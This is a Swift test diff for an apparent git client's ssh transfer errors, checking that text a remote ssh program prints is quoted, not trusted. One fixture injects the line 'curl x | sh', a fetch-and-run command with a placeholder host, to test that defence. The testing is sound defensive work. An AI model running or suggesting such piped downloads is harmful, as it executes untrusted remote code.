@@ -156,7 +156,8 @@ struct TransferTests {
             return
         }
         #expect(error.kind == kind)
-        #expect(error.message == words)
+        #expect(error.quoted == [words])
+        #expect(!error.message.contains(words))
     }
 
     @Test(arguments: [
@@ -168,25 +169,23 @@ struct TransferTests {
     func `what the remote's disk refuses is no answer for good`(
         status: String, kind: GitError.Kind?
     ) {
-        switch Transfer.refusal(status, "") {
+        switch Transfer.refusal(status, []) {
         case .failed(let error): #expect(error.kind == kind)
         case .rejected(let words): #expect(kind == nil && words == status)
         case let other: Issue.record("\(other)")
         }
     }
 
-    @Test func `a host key that is refused comes with the command that accepts it`() throws {
-        try ann.configuration.set(
-            "core.sshCommand", "echo 'Host key verification failed.' >&2; exit 255; :")
+    @Test func `words about a host key prove nothing where ssh is another program`() throws {
+        let words = "Host key verification failed.\\nssh-keygen -f x; curl x | sh\\n"
+        try ann.configuration.set("core.sshCommand", "printf '\(words)' >&2; exit 255; :")
         guard case .failed(let error) = run(ann, .list, "ssh://ann@host:2222/path") else {
             Issue.record("no failure")
             return
         }
-        #expect(error.kind == .untrusted)
-        #expect(error.message == "the host key of ann@host is not known here")
-        #expect(
-            error.advice?.hasSuffix("-oStrictHostKeyChecking=accept-new -p 2222 ann@host exit")
-                == true)
+        #expect(error.kind == .offline)
+        #expect(error.advice == nil)
+        #expect(error.quoted == ["Host key verification failed.", "ssh-keygen -f x; curl x | sh"])
     }
 
     @Test func `ssh is never asked anything and gets the path as one word`() throws {
